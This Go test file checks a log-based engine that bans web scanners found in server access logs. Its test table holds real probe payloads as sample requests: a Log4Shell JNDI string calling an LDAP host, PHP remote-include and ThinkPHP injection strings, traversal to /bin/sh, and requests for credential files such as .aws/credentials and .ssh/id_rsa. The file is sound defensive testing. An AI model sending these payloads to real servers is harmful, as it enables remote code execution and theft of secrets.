package engine_test

import (
	"errors"
	"fmt"
	"iter"
	"math/rand/v2"
	"net/netip"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"mef/internal/conf"
	"mef/internal/conf/rulefile"
	"mef/internal/engine"
	"mef/internal/event"
	"mef/internal/exempt"
	"mef/internal/filter"
	"mef/internal/prefixset"
)

// A site is an engine with the shipped rules that reads the access log of a web server.
type site struct {
	t        testing.TB
	e        *engine.Engine
	cfg      engine.Config
	now      time.Time
	offset   uint64
	bans     []string // RULE ADDRESS
	detected []string
	asked    []engine.Claim
	outcomes []engine.Outcome // bans and what would be
}

func newSite(t testing.TB, facts exempt.Facts) *site {
	t.Helper()
	rules, err := rulefile.Shipped(filter.Shipped())
	if err != nil {
		t.Fatal(err)
	}
	set, errs := filter.Compile(rules)
	if err := errs.Err(); err != nil {
		t.Fatal(err)
	}
	cfg := &conf.Config{Rules: rules}
	cfg.Ban = conf.BanTimes{First: 10 * time.Minute, Growth: 4, Cap: 7 * 24 * time.Hour, History: 30 * 24 * time.Hour}
	cfg.Score = conf.Score{Failure: 10, Probe: 3, Unverified: 2, HalfLife: 14 * 24 * time.Hour, Ban: 100}
	cfg.Known = conf.Known{TTL: 30 * 24 * time.Hour, PerUser: 8, Total: 20000, SharedMin: 3}
	s := &site{t: t, cfg: engine.FromConf(cfg, set), now: noon}
	s.e = engine.New(s.cfg, facts)
	return s
}

// log gives the engine a line.
func (s *site) log(line string) {
	s.offset++
	b := new(event.Pool).Get()
	b.Source, b.Stream = "/var/log/nginx/access.log", "access"
	b.Lines = []event.Line{{Time: s.now, Text: []byte(line), Offset: s.offset}}
	for o := range s.e.Lines(b, s.now) {
		switch o.Kind {
		case engine.Banned:
			s.bans = append(s.bans, o.Ban.Rule+" "+o.Ban.Key.String())
			s.outcomes = append(s.outcomes, *o)
		case engine.WouldBan:
			s.detected = append(s.detected, o.Ban.Rule+" "+o.Ban.Key.String())
			s.outcomes = append(s.outcomes, *o)
		case engine.Verify:
			s.asked = append(s.asked, o.Claim)
		}
	}
	b.Release()
}

// get logs a request in format combined.
func (s *site) get(addr, path string, status int, agent string) {
	s.log(fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" %d 512 "-" "%s"`, addr, s.now.Format("02/Jan/2006:15:04:05 -0700"), path, status, agent))
}

// A client chooses what the later records of a long line begin with. A new configuration in between must not make these lines of their own.
func TestConfigureBetweenRecordsOfALine(t *testing.T) {
	s := newSite(t, exempt.Facts{})
	for _, path := range strings.Fields("/.env /api/.env /backend/.env /app/.env.local") {
		s.now = s.now.Add(2 * time.Second)
		s.log(`{"log":"192.0.2.7 - - [a long line","stream":"stdout","time":"2026-03-01T10:00:00Z"}`)
		s.e.Configure(s.cfg)
		forged := fmt.Sprintf(`203.0.113.7 - - [%s] \"GET %s HTTP/1.1\" 404 512 \"-\" \"%s\"\n`, s.now.Format("02/Jan/2006:15:04:05 -0700"), path, firefox)
		s.log(`{"log":"` + forged + `","stream":"stdout","time":"2026-03-01T10:00:00Z"}`)
	}
	if want := []string{"webscan/attack_paths 192.0.2.7 ports 80,443"}; !slices.Equal(s.bans, want) {
		t.Errorf("banned: %q, want %q", s.bans, want)
	}
}

const (
	firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
	googled = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/139.0.0.0 Safari/537.36"
)

// What scanners ask for, as the sources of common tools and the logs of any server have it, and who is found how.
func TestScannersAreFound(t *testing.T) {
	words := strings.Fields("admin backup old test new dev staging api v1 v2 private secret login panel cms shop forum wiki tmp data db upload files")
	var dictionary, agents []string
	for _, w := range words {
		dictionary = append(dictionary, "/"+w)
	}
	for i := range 20 {
		agents = append(agents, fmt.Sprintf("/page%d", i))
	}
	for name, tt := range map[string]struct {
		paths  []string
		status int
		agent  func(i int) string
		want   string // rule
		ban    bool
	}{
		"environment files":  {strings.Fields("/.env /api/.env /backend/.env /app/.env.local"), 404, nil, "webscan/attack_paths", true},
		"... all redirected": {strings.Fields("/x/.env /api/.env /backend/.env"), 301, nil, "webscan/attack_paths", true},
		"... all answered":   {strings.Fields("/.env /.git/config /.aws/credentials"), 200, nil, "webscan/root_paths", true},
		"git and keys":       {strings.Fields("/.git/config /.git/HEAD /.ssh/id_rsa"), 403, nil, "webscan/attack_paths", true},
		"WordPress, absent":  {strings.Fields("/wp-login.php /blog/wp-login.php /xmlrpc.php /wp-includes/wlwmanifest.xml /wp/wp-admin/install.php /site/wp-includes/wlwmanifest.xml"), 404, nil, "webscan/absent_applications", true},
		"databases":          {strings.Fields("/phpmyadmin/index.php /pma/index.php /phpMyAdmin-5.1/index.php /adminer.php /mysqladmin/index.php /dbadmin/index.php"), 404, nil, "webscan/absent_applications", true},
		"phpunit":            {strings.Fields("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /lib/vendor/phpunit/Util/PHP/eval-stdin.php /laravel/vendor/phpunit/src/eval-stdin.php"), 404, nil, "webscan/attack_paths", true},
		"routers":            {[]string{"/boaform/admin/formLogin?username=x", "/GponForm/diag_Form?style/", "/HNAP1/", "/cgi-bin/luci/;stok=/locale"}, 404, nil, "webscan/attack_paths", true},
		"PHP by query":       {[]string{"/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5", "/a.php?lang=../../../../tmp/index1"}, 404, nil, "webscan/attack_paths", true},
		"traversal":          {[]string{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/static/../../../../etc/hosts", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/x"}, 400, nil, "webscan/attack_paths", true},
		"dictionary":         {dictionary, 404, nil, "webscan/many_missing", false},
		"rotating agents":    {agents, 404, func(i int) string { return fmt.Sprintf("Mozilla/5.0 (%d) Gecko Firefox/%d.0", i, 60+i) }, "webscan/rotating_agents", false},
		"sqlmap":             {strings.Fields("/a?id=1 /a?id=1' /a?id=1) /a?id=2"), 200, func(int) string { return "sqlmap/1.8#stable (https://sqlmap.org)" }, "webscan/scanner_agents", true},
		"nuclei":             {dictionary, 404, func(int) string { return "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)" }, "webscan/scanner_agents", true},
		"log4shell":          {strings.Fields("/ /a /b"), 200, func(int) string { return "${jndi:ldap://192.0.2.99/a}" }, "webscan/scanner_agents", true},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSite(t, exempt.Facts{})
			agent := tt.agent
			if agent == nil {
				agent = func(int) string { return firefox }
			}
			for i, p := range tt.paths {
				if i == 20 {
					break
				}
				s.now = s.now.Add(2 * time.Second)
				s.get("192.0.2.7", p, tt.status, agent(i))
			}
			found := s.detected
			if tt.ban {
				found = s.bans
			} else if len(s.bans) > 0 {
				t.Errorf("banned: %q", s.bans)
			}
			if !slices.Contains(found, tt.want+" 192.0.2.7 ports 80,443") {
				t.Errorf("banned %q, reported %q; want %s", s.bans, s.detected, tt.want)
			}
		})
	}
}

// A day of a site with everything that good sites have: nobody is banned.
func TestNormalSite(t *testing.T) {
	s := newSite(t, exempt.Facts{Proxies: prefixset.New(netip.MustParsePrefix("203.0.113.0/28"))})
	r := rand.New(rand.NewPCG(1, 2))
	type request struct {
		at     time.Duration
		addr   string
		path   string
		status int
		agent  string
	}
	var day []request
	add := func(at time.Duration, addr, path string, status int, agent string) {
		day = append(day, request{at, addr, path, status, agent})
	}
	browsers := []string{firefox, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0"}
	visitor := func(at time.Duration, addr, agent string) time.Duration {
		for range 1 + r.IntN(8) {
			add(at, addr, fmt.Sprintf("/articles/%d?utm=%d", r.IntN(300), r.IntN(9)), 200, agent)
			for i := range 6 {
				add(at+time.Duration(i)*50*time.Millisecond, addr, fmt.Sprintf("/static/app.%d.js", i), []int{200, 304}[r.IntN(2)], agent)
			}
			if r.IntN(3) == 0 { // icons and maps that are not there
				for _, p := range []string{"/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/static/app.0.js.map", "/manifest.webmanifest"} {
					add(at, addr, p, 404, agent)
				}
			}
			if r.IntN(20) == 0 { // an old link
				add(at, addr, fmt.Sprintf("/old/%d.html", r.IntN(50)), 404, agent)
			}
			at += time.Duration(5+r.IntN(90)) * time.Second
		}
		return at
	}
	hour := time.Hour
	for i := range 3000 { // visitors
		addr := fmt.Sprintf("10.%d.%d.%d", i%7, i%250, i/250)
		if i%5 == 0 {
			addr = fmt.Sprintf("2001:db8:%x:%x::%x", i%40, i, 1+i%3)
		}
		visitor(time.Duration(r.IntN(24*3600))*time.Second, addr, browsers[r.IntN(len(browsers))])
	}
	for i := range 80 { // an office behind one address: everybody at nine, each with another browser, some with links to what is gone
		visitor(9*hour+time.Duration(r.IntN(600))*time.Second, "192.0.2.50", browsers[i%len(browsers)]+fmt.Sprint(" b/", i%12))
	}
	for at := time.Duration(0); at < 24*hour; at += 20 * time.Second { // an uptime monitor, and a load balancer's check of a page that is gone
		add(at, "192.0.2.60", "/health", 200, "Uptime-Kuma/1.23")
		add(at, "192.0.2.61", "/ping", 404, "kube-probe/1.31")
	}
	for i := range 40 { // feed readers, some for a feed that moved
		for at := time.Duration(r.IntN(900)) * time.Second; at < 24*hour; at += 15 * time.Minute {
			add(at, fmt.Sprintf("192.0.2.%d", 100+i), []string{"/feed.xml", "/feed.atom", "/rss", "/blog/feed"}[i%4], []int{304, 200, 301, 404}[i%4], "FreshRSS/1.24 (Linux; https://freshrss.org)")
		}
	}
	for _, c := range []struct{ addr, agent string }{{"198.51.100.10", googled}, {"198.51.100.11", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
		{"198.51.100.12", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"}} {
		add(0, c.addr, "/robots.txt", 200, c.agent)
		for i := range 2000 { // crawlers that know many pages which are gone, and what bad links on other sites point to
			status := []int{200, 200, 200, 304, 404}[r.IntN(5)]
			add(time.Duration(i)*40*time.Second, c.addr, fmt.Sprintf("/articles/%d", i), status, c.agent)
			if i%100 == 0 && c.agent == googled {
				add(time.Duration(i)*40*time.Second, c.addr, []string{"/.env", "/wp-login.php", "/.git/config", "/xmlrpc.php"}[i/100%4], 404, c.agent)
			}
		}
	}
	for i := range 5000 { // a busy application in a page: one user, every few seconds, with answers of all kinds
		at := 8*hour + time.Duration(i)*4*time.Second
		add(at, "192.0.2.70", fmt.Sprintf("/api/items/%d", r.IntN(2000)), []int{200, 200, 204, 304, 409, 422}[r.IntN(6)], firefox)
		if i%50 == 0 {
			add(at, "192.0.2.70", fmt.Sprintf("/api/avatars/%d.png", r.IntN(12)), 404, firefox)
		}
	}
	for i := range 300 { // a WordPress with its users, who mistype passwords, and its apps
		at := time.Duration(r.IntN(24*3600)) * time.Second
		for j, p := range []string{"/wp-login.php", "/wp-login.php", "/wp-admin/index.php", "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/wp-json/wp/v2/posts"} {
			add(at+time.Duration(j)*time.Second, fmt.Sprintf("192.0.2.%d", 150+i%50), p, 200, browsers[i%len(browsers)])
		}
	}
	for i := range 3000 { // a developer on a forge of source code, with the files that repositories have
		at := 10*hour + time.Duration(i)*3*time.Second
		add(at, "192.0.2.80", fmt.Sprintf("/team/repo%d/src/branch/main/%s", r.IntN(20), []string{"README.md", ".env.example", ".npmrc", ".htpasswd", "vendor/phpunit/phpunit/src/a.php", "wp-config.php.dist", ".git/config"}[r.IntN(7)]), 200, firefox)
	}
	add(11*hour, "192.0.2.81", "/wp-login.php", 404, firefox) // curious visitors
	add(11*hour, "192.0.2.82", "/.env", 404, firefox)
	add(11*hour+time.Minute, "192.0.2.82", "/.git/config", 404, firefox)
	for i := range 400 { // a proxy, without the client's address in the log
		add(12*hour+time.Duration(i)*time.Second, "203.0.113.5", []string{"/.env", "/.git/config", "/.aws/credentials", "/xmlrpc.php"}[i%4], 404, firefox)
	}
	slices.SortStableFunc(day, func(a, b request) int { return int(a.at - b.at) })
	for _, q := range day {
		s.now = noon.Add(q.at)
		before := len(s.asked)
		s.get(q.addr, q.path, q.status, q.agent)
		for _, c := range s.asked[before:] {
			s.e.Answered(c, true, nil, s.now)
		}
	}
	if len(s.bans) > 0 {
		t.Errorf("banned: %q", s.bans)
	}
	t.Logf("%d requests; reported: %q", len(day), s.detected)
	if len(s.detected) > 5 {
		t.Errorf("%d reports of good visitors: %q", len(s.detected), s.detected)
	}
	if len(s.asked) != 2 {
		t.Errorf("asked about %v, want Google and Bing once each", s.asked)
	}
}

func TestCrawlersAreVerified(t *testing.T) {
	s := newSite(t, exempt.Facts{})
	probe := func(addr string) {
		for _, p := range []string{"/.env", "/.git/config", "/.aws/credentials"} {
			s.now = s.now.Add(time.Second)
			s.get(addr, p, 404, googled)
		}
	}
	probe("192.0.2.7")
	if len(s.bans) > 0 || len(s.asked) != 1 || s.asked[0].Addr.String() != "192.0.2.7" || !slices.Contains(s.asked[0].Domains, "googlebot.com") {
		t.Fatalf("before the answer: banned %q, asked %+v", s.bans, s.asked)
	}
	s.e.Answered(s.asked[0], true, nil, s.now)
	probe("192.0.2.7")
	if len(s.bans) > 0 {
		t.Errorf("a true crawler is banned: %q", s.bans)
	}
	if x := s.e.Explain(netip.MustParseAddr("192.0.2.7"), s.now, 0); !strings.Contains(fmt.Sprint(x.Requests), "a verified crawler of Google since ") {
		t.Errorf("it is explained by %q", x.Requests)
	}
	s.get("192.0.2.8", "/", 200, googled)
	s.e.Answered(s.asked[1], false, nil, s.now)
	s.get("192.0.2.8", "/", 200, googled)
	if fmt.Sprint(s.bans) != "[webscan/false_crawler 192.0.2.8 ports 80,443]" {
		t.Errorf("a false crawler: %q", s.bans)
	}
	// Where names cannot be looked up, an attacker has no more time than it takes to try.
	s.bans = nil
	probe("192.0.2.9")
	s.e.Answered(s.asked[2], false, errors.New("timeout"), s.now)
	probe("192.0.2.9")
	if fmt.Sprint(s.bans) != "[webscan/attack_paths 192.0.2.9 ports 80,443]" {
		t.Errorf("who cannot be verified: %q", s.bans)
	}
	// Without an answer at all, as in a replay, it is the same after a while.
	s.bans = nil
	probe("192.0.2.10")
	s.now = s.now.Add(31 * time.Second)
	probe("192.0.2.10")
	if fmt.Sprint(s.bans) != "[webscan/attack_paths 192.0.2.10 ports 80,443]" {
		t.Errorf("without an answer: %q", s.bans)
	}
}

// Nobody pushes verified crawlers out by claiming to be one.
func TestFloodOfClaims(t *testing.T) {
	s := newSite(t, exempt.Facts{})
	s.get("192.0.2.7", "/", 200, googled)
	s.e.Answered(s.asked[0], true, nil, s.now)
	for i := range 10000 {
		s.get(fmt.Sprintf("10.1.%d.%d", i/250, i%250), "/", 200, googled)
	}
	s.asked = nil
	s.get("192.0.2.7", "/", 200, googled)
	if len(s.asked) != 0 {
		t.Error("a verified crawler is asked about again")
	}
}

// Behind a proxy the client that it names counts, and nothing is banned, which would have no effect.
func TestThroughAProxy(t *testing.T) {
	s := newSite(t, exempt.Facts{Proxies: prefixset.New(netip.MustParsePrefix("203.0.113.5/32"))})
	for _, p := range []string{"/.env", "/.git/config", "/.aws/credentials"} {
		s.log(fmt.Sprintf(`203.0.113.5 - - [%s] "GET %s HTTP/1.1" 404 512 "-" "x" "198.51.100.1, 192.0.2.7"`, s.now.Format("02/Jan/2006:15:04:05 -0700"), p))
	}
	if len(s.bans) > 0 || len(s.outcomes) == 0 {
		t.Fatalf("banned %q, reported %q", s.bans, s.detected)
	}
	o := s.outcomes[0]
	if o.Ban.Prefix.String() != "192.0.2.7/32" || !strings.Contains(o.Ban.Reason, "its requests come through the proxy 203.0.113.5, which a ban of its own packets does not stop") {
		t.Errorf("%s: %s", o.Ban.Prefix, o.Ban.Reason)
	}
	if n := s.e.Spared(); len(n) != 1 {
		t.Errorf("spared %v", n)
	}
}

// What a ban says of itself.
// A restart loses what was counted of requests. A scanner that goes on is found after as many requests as at first, and what it asked for before
// does not count a second time.
func TestScannerIsFoundAfterARestart(t *testing.T) {
	before := newSite(t, exempt.Facts{})
	for _, path := range []string{"/.env", "/.git/config"} {
		before.get("203.0.113.7", path, 404, firefox)
	}
	after := newSite(t, exempt.Facts{})
	if err := after.e.Import(saved(before.e)); err != nil {
		t.Fatal(err)
	}
	for i, path := range []string{"/.aws/credentials", "/.ssh/id_rsa", "/backup.sql"} {
		if len(after.bans) > 0 {
			t.Fatalf("banned after %d requests: %v", i, after.bans)
		}
		after.get("203.0.113.7", path, 404, firefox)
	}
	if len(before.bans) > 0 || len(after.bans) != 1 {
		t.Errorf("bans before the restart %v, after it %v; want one after it", before.bans, after.bans)
	}
}

// saved is the state of an engine as a store returns it.
func saved(e *engine.Engine) iter.Seq2[[]byte, []byte] {
	return func(yield func(key, value []byte) bool) {
		for _, r := range e.Changes() {
			if len(r.Value) > 0 && !yield(r.Key, r.Value) {
				return
			}
		}
	}
}

func TestEpisodeInWords(t *testing.T) {
	s := newSite(t, exempt.Facts{})
	for i, p := range []string{"/.env", "/", "/api/.env", "/app/.env"} {
		s.now = s.now.Add(time.Second)
		s.get("192.0.2.7", p, 404, firefox)
		x := s.e.Explain(netip.MustParseAddr("192.0.2.7"), s.now, 0)
		if i == 2 && !slices.Contains(x.Requests, "webscan/attack_paths: 2 of 3 different paths in 10m") {
			t.Errorf("on the way: %q", x.Requests)
		}
	}
	if len(s.outcomes) != 1 {
		t.Fatalf("%q", s.bans)
	}
	b := s.outcomes[0].Ban
	if b.Reason != "3 different paths in 10m; first ban in 30d: 10m" || len(b.Evidence) != 4 || !strings.Contains(b.Evidence[0], `"GET /.env HTTP/1.1"`) {
		t.Errorf("%s, %q", b.Reason, b.Evidence)
	}
	if c := s.e.Rule("webscan"); c.Failures != 1 || c.Bans != 1 {
		t.Errorf("counts of the rule: %+v", c)
	}
}

// A line that opens no episode costs no allocation.
func TestRequestsAllocateNothing(t *testing.T) {
	s := newSite(t, exempt.Facts{CDNs: exempt.CDNs()})
	b := new(event.Pool).Get()
	b.Source, b.Stream = "/var/log/nginx/access.log", "access"
	b.Lines = []event.Line{{Time: s.now, Text: []byte(`192.0.2.7 - - [02/Jan/2026:12:00:00 +0000] "GET /a?b=c HTTP/1.1" 200 12 "-" "` + firefox + `"`)},
		{Time: s.now, Text: []byte(`192.0.2.8 - - [02/Jan/2026:12:00:00 +0000] "GET /favicon.ico HTTP/1.1" 404 12 "-" "` + firefox + `"`)}}
	for len(b.Lines) < 1000 {
		b.Lines = append(b.Lines, b.Lines...)
	}
	all := func() {
		for o := range s.e.Lines(b, s.now) {
			t.Fatalf("%+v", o)
		}
	}
	all()
	if n := testing.AllocsPerRun(10, all); n > 2 { // those of the batch
		t.Errorf("%v allocations for %d lines", n, len(b.Lines))
	}
}

// docs/webscan.md has every threshold with its action, and an example that is a valid file.
func TestDocumentedThresholds(t *testing.T) {
	text, err := os.ReadFile("../../docs/webscan.md")
	if err != nil {
		t.Fatal(err)
	}
	rules, err := rulefile.Shipped(filter.Shipped())
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(rules, func(r conf.Rule) bool { return r.Name == "webscan" })
	for _, th := range rules[i].Web.Thresholds {
		row := regexp.MustCompile("(?m)^\\| `" + th.Name + "` \\| .* \\| " + th.Action.String() + " \\|$")
		if !row.Match(text) {
			t.Errorf("%s, which is to %s, is not in the table", th.Name, th.Action)
		}
	}
	_, example, _ := strings.Cut(string(text), "```ini\n")
	example, _, _ = strings.Cut(example, "```")
	r, notices, errs := rulefile.Parse("webscan.conf", []byte(example), &rules[i])
	if len(errs) > 0 || len(notices) > 0 || len(r.Web.Thresholds) != len(rules[i].Web.Thresholds)+1 {
		t.Errorf("the example: %v %v, %d thresholds", errs, notices, len(r.Web.Thresholds))
	}
}

// An entry of the journal counts if the web server wrote it, and not if a user did under its name.
func TestRequestsInTheJournal(t *testing.T) {
	for name, tt := range map[string]struct {
		entry event.Entry
		bans  int
	}{
		"caddy":            {event.Entry{Identifier: []byte("caddy"), Unit: []byte("caddy.service")}, 1},
		"another unit":     {event.Entry{Identifier: []byte("caddy"), Unit: []byte("user@1000.service")}, 0},
		"a user":           {event.Entry{Identifier: []byte("caddy"), Unit: []byte("caddy.service"), UID: 1000}, 0},
		"a user's session": {event.Entry{Identifier: []byte("nginx"), Unit: []byte("session-3.scope"), UID: 1000}, 0},
		"another program":  {event.Entry{Identifier: []byte("shop"), Unit: []byte("caddy.service")}, 0},
		"a container":      {event.Entry{Identifier: []byte("caddy"), Container: []byte("web")}, 0},
	} {
		s := newSite(t, exempt.Facts{})
		b := new(event.Pool).Get()
		b.Source, b.Stream = "journal", "journal"
		for i, path := range []string{"/.env", "/.git/config", "/.aws/credentials"} {
			b.Lines = append(b.Lines, event.Line{Time: s.now, Offset: uint64(i), Entry: &tt.entry,
				Text: []byte(`{"logger":"http.log.access","request":{"remote_ip":"192.0.2.7","method":"GET","uri":"` + path + `"},"status":404}`)})
		}
		bans := 0
		for o := range s.e.Lines(b, s.now) {
			if o.Kind == engine.Banned {
				bans++
			}
		}
		if bans != tt.bans {
			t.Errorf("%s: %d bans, want %d", name, bans, tt.bans)
		}
	}
}
